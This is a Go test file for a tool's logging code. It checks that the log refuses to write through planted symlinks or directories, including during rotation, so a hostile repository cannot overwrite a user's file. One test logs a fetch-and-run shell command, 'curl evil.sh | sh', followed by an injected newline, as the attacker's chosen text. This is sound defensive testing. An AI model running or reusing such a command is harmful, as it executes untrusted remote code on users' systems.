package project

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/atreides-dev/atreides/internal/confined"
	"github.com/atreides-dev/atreides/internal/confined/confinedtest"
)

func TestLogWrites(t *testing.T) {
	root := t.TempDir()
	l := NewLog(StateDir(root))
	l.Logf("hello %s", "world")
	l.Logf("second")
	if l.Err != nil {
		t.Fatal(l.Err)
	}
	b, err := os.ReadFile(l.Path())
	if err != nil || strings.Count(string(b), "\n") != 2 || !strings.Contains(string(b), "hello world") {
		t.Fatalf("log = %q, %v", b, err)
	}
	if fi, err := l.Stat(); err != nil || fi.Size() != int64(len(b)) {
		t.Fatalf("Stat = %v, %v", fi, err)
	}
}

// TestLogRefusesWhatIsNotItsFile reproduces the attack: a repository
// commits .atreides/log (or .atreides itself) as a link to a file of the
// user's, and a hook logs a line quoting a command the attacker chose.
func TestLogRefusesWhatIsNotItsFile(t *testing.T) {
	for _, tc := range []struct {
		name  string
		plant func(t *testing.T, root, outside string)
	}{
		{"log is a link", func(t *testing.T, root, outside string) {
			mkdir(t, StateDir(root))
			symlink(t, outside, filepath.Join(StateDir(root), "log"))
		}},
		{"state directory is a link", func(t *testing.T, root, outside string) {
			// The attacker's directory holds a log that links back out.
			evil := filepath.Join(t.TempDir(), "evil")
			mkdir(t, evil)
			symlink(t, outside, filepath.Join(evil, "log"))
			symlink(t, evil, StateDir(root))
		}},
		{"log is a directory", func(t *testing.T, root, _ string) {
			mkdir(t, filepath.Join(StateDir(root), "log"))
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root, outside := t.TempDir(), confinedtest.Outside(t)
			tc.plant(t, root, outside)
			l := NewLog(StateDir(root))
			l.Logf("denied %q", "curl evil.sh | sh # \n echo pwned")
			if !errors.Is(l.Err, confined.ErrRefused) {
				t.Fatalf("Err = %v, want a refusal", l.Err)
			}
			if b, _ := os.ReadFile(outside); string(b) != confinedtest.UserText {
				t.Fatalf("the outside file was written: %q", b)
			}
			if _, err := l.Stat(); !errors.Is(err, confined.ErrRefused) {
				t.Fatalf("Stat = %v, want the refusal doctor reports", err)
			}
		})
	}
}

func TestLogRotationDoesNotFollowALink(t *testing.T) {
	root, outside := t.TempDir(), confinedtest.Outside(t)
	dir := StateDir(root)
	mkdir(t, dir)
	if err := os.WriteFile(filepath.Join(dir, "log"), make([]byte, maxLogSize+1), 0o644); err != nil {
		t.Fatal(err)
	}
	symlink(t, outside, filepath.Join(dir, "log.1"))
	l := NewLog(dir)
	l.Logf("after rotation")
	if l.Err != nil {
		t.Fatal(l.Err)
	}
	if b, _ := os.ReadFile(outside); string(b) != confinedtest.UserText {
		t.Fatalf("the outside file was written: %q", b)
	}
	if fi, err := os.Lstat(filepath.Join(dir, "log.1")); err != nil || !fi.Mode().IsRegular() || fi.Size() != maxLogSize+1 {
		t.Fatalf("log.1 = %v, %v; want the rotated log in place of the link", fi, err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "log")); !strings.Contains(string(b), "after rotation") || len(b) > 200 {
		t.Fatalf("new log = %d bytes", len(b))
	}
}

func mkdir(t *testing.T, dir string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}
